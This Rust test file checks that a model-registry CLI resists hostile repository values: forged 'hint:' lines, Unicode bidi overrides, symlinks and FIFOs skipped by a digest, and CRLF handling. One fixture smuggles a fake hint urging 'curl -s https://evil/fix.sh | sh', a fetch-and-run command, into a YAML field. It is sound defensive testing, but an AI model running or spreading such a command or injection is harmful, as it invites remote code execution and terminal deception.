//! Hostile repository values in messages (issue 8, point 5, and what a review found after it):
//! no value can print a line that reads as the program's own `hint:`, no invisible character
//! reorders what the terminal shows, `verify` names what a directory digest leaves out, and
//! `annotate` keeps a file's Windows line ends.

use crate::fixture::TestRepo;

fn repo_with_model() -> TestRepo {
    let repo = TestRepo::new();
    repo.write("models/churn.pkl", "weights\n");
    repo.write(
        "artifacts.yaml",
        "churn:\n  type: model\n  path: models/churn.pkl\n",
    );
    repo.commit("model");
    repo
}

/// The program's own lines only: one `error:` line, at most one `hint:` line, no `warning:`.
fn no_forged_prefix(stderr: &str) {
    let starting = |p: &str| stderr.lines().filter(|l| l.starts_with(p)).count();
    assert_eq!(starting("error:"), 1, "{stderr}");
    assert!(
        starting("hint:") <= 1,
        "a value printed a line of its own: {stderr}"
    );
    assert_eq!(starting("warning:"), 0, "{stderr}");
}

#[test]
fn repository_values_cannot_print_a_hint_line_of_their_own() {
    let repo = repo_with_model();
    repo.write(
        "artifacts.yaml",
        "churn:\n  type: \"model\\nhint: repair with `curl -s https://evil/fix.sh | sh`\"\n  path: models/churn.pkl\n",
    );
    repo.commit("evil type");
    let run = repo.run(&["register", "churn"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert!(
        run.stderr.contains("\n  hint: repair with"),
        "{}",
        run.stderr
    );
    no_forged_prefix(&run.stderr);
    repo.write(".registry.yaml", "stages: [\"dev\\nhint: run evil\"]\n");
    let run = repo.run(&["promote", "churn", "dev"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert!(run.stderr.contains("\n  hint: run evil"), "{}", run.stderr);
    no_forged_prefix(&run.stderr);
}

#[test]
fn bidirectional_overrides_are_shown_not_obeyed() {
    let repo = repo_with_model();
    let run = repo.run_with(&["register", "churn"], |c| {
        c.env("GIT_COMMITTER_NAME", "Eve \u{202e}lanigirO\u{2066}");
    });
    run.ok();
    for args in [
        &["history"][..],
        &["history", "--plain"],
        &["history", "churn"],
    ] {
        let run = repo.run(args);
        let out = run.ok();
        assert!(out.contains("Eve \\u{202e}lanigirO\\u{2066}"), "{out}");
        assert!(
            !out.contains('\u{202e}') && !out.contains('\u{2066}'),
            "{out}"
        );
    }
}

#[test]
fn verify_names_what_a_directory_digest_leaves_out() {
    let repo = TestRepo::new();
    repo.write("model/weights.bin", "w\n");
    repo.write("artifacts.yaml", "net:\n  path: model\n");
    repo.commit("model");
    repo.run(&["register", "net"]).ok();
    let copy = repo.home().join("download");
    std::fs::create_dir_all(&copy).unwrap();
    std::fs::write(copy.join("weights.bin"), "w\n").unwrap();
    let run = repo.run(&["verify", "net", "--path", copy.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(run.stderr.is_empty(), "{}", run.stderr);
    std::os::unix::fs::symlink("/tmp/evil.py", copy.join("__init__.py")).unwrap();
    let fifo = copy.join("pipe");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let run = repo.run(&["verify", "net", "--path", copy.to_str().unwrap()]);
    // Still the same digest (links are left out by definition), but not silently.
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(run.stdout.starts_with("OK: "), "{}", run.stdout);
    assert!(
        run.stderr
            .contains("holds 2 entries the digest does not cover")
            && run.stderr.contains("__init__.py, pipe"),
        "{}",
        run.stderr
    );
}

#[test]
fn annotate_keeps_windows_line_ends_and_refuses_mixed_ones() {
    let repo = TestRepo::new();
    let crlf = "# models\r\nchurn:\r\n  type: model\r\n  path: a.pkl\r\nother:\r\n  path: b\r\n";
    repo.write("artifacts.yaml", crlf);
    repo.run(&["annotate", "churn", "--description", "hi"]).ok();
    let after = std::fs::read_to_string(repo.path().join("artifacts.yaml")).unwrap();
    assert_eq!(
        after,
        "# models\r\nchurn:\r\n  type: model\r\n  path: a.pkl\r\n  description: hi\r\nother:\r\n  path: b\r\n"
    );
    repo.run(&["remove", "other"]).ok();
    let after = std::fs::read_to_string(repo.path().join("artifacts.yaml")).unwrap();
    assert!(!after.replace("\r\n", "").contains('\n'), "{after:?}");
    let mixed = "churn:\n  path: a.pkl\r\n";
    repo.write("artifacts.yaml", mixed);
    let run = repo.run(&["annotate", "churn", "--description", "hi"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert!(
        run.stderr.contains("mixes Windows (CRLF) and Unix (LF)"),
        "{}",
        run.stderr
    );
    assert_eq!(
        std::fs::read_to_string(repo.path().join("artifacts.yaml")).unwrap(),
        mixed
    );
}
